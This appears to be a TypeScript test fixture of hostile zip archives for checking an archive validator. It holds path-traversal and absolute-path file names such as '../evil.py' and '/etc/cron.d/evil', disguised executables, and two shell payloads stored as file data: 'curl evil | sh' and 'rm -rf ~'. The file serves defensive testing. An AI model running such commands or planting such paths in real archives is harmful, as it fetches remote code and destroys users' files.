import { archiveTexts as texts } from '#features/packages/texts.ts';
import { makeZip } from '../archives.ts';
import { latin1, named, one, type HostileArchive } from './hostile-archive.ts';

const clash = (a: string, b: string): HostileArchive => ({
  what: `${a} beside ${b}`,
  bytes: () =>
    makeZip([
      { path: a, data: '1' },
      { path: b, data: '2' },
    ]),
  message: texts.clash(b, a),
});

const badNames: HostileArchive[] = [
  ...['../evil.py', 'a/../../evil.py', '..', 'a/./b', 'a//b', './a'].map((path) => ({
    path,
    message: texts.traversal(path),
  })),
  ...['/etc/cron.d/evil', 'C:/Windows/evil', 'c:evil', '//server/share/a'].map((path) => ({
    path,
    message: texts.absolute(path),
  })),
  ...['..\\evil.py', 'a\\b'].map((path) => ({ path, message: texts.backslash(path) })),
  ...['a\0.txt', 'a\nb', 'a\u202egpj.py', 'a\u200b.py', 'a\x7f'].map((path) => ({
    path,
    message: texts.control(path),
  })),
  ...[
    'CON',
    'a/nul.txt',
    'Aux.py',
    'com1',
    'lpt9.tar',
    'COM²',
    'a?.txt',
    'a<b',
    'a.txt:stream',
    'trailing.',
    'trailing /a',
    'a|b',
  ].map((path) => ({ path, message: texts.reserved(path) })),
  ...['a'.repeat(241), `${'a/'.repeat(25)}b`].map((path) => ({
    path,
    message: texts.tooLong(path),
  })),
].map(({ path, message }) => ({
  what: JSON.stringify(path.slice(0, 30)),
  bytes: named(path),
  message,
}));

function windowsProgram(): Buffer {
  const bytes = Buffer.alloc(200);
  bytes.write('MZ', 'latin1');
  bytes.writeUInt32LE(128, 0x3c);
  bytes.write('PE\0\0', 128, 'latin1');
  return bytes;
}

const programs: HostileArchive[] = [
  ...[
    'a.bash',
    'x/a.COM',
    'a.vbs',
    'a.lnk',
    'a.msi',
    'a.jar',
    'a.command',
    'a.scr',
    'a.desktop',
    'a.hta',
    'a.AppImage',
  ].map((path) => ({ what: path, message: texts.executable(path), bytes: named(path) })),
  ...[
    ['ELF', latin1('\x7fELF\x02\x01\x01')],
    ['a Windows program', windowsProgram()],
    ['Mach-O', latin1('\xcf\xfa\xed\xfe\x07\0\0\x01')],
    ['Mach-O for several machines', latin1('\xca\xfe\xba\xbe\0\0\0\x02')],
    ['a shell script', Buffer.from('#!/bin/bash\ncurl evil | sh')],
    ['a script for node', Buffer.from('#!/usr/bin/env node\n')],
  ].map(([what, data]) => ({
    what: `${String(what)} called png`,
    message: texts.disguised('a.png'),
    bytes: one({ path: 'a.png', data: data as Buffer, isDeflated: true }),
  })),
  {
    what: 'a shell script called exe',
    message: texts.disguised('a.exe'),
    bytes: one({ path: 'a.exe', data: '#!/bin/sh\nrm -rf ~' }),
  },
  {
    what: 'a library called sh',
    message: texts.disguised('a.sh'),
    bytes: one({ path: 'a.sh', data: latin1('\x7fELF') }),
  },
];

/** Paths that lead outside, names that clash, files that are programs. */
export const hostileNames: HostileArchive[] = [
  ...badNames,
  ...programs,
  clash('Readme.md', 'README.MD'),
  clash('caf\u00e9.py', 'cafe\u0301.py'),
  clash('ﬁle.py', 'file.py'),
  clash('straße.py', 'STRASSE.py'),
];
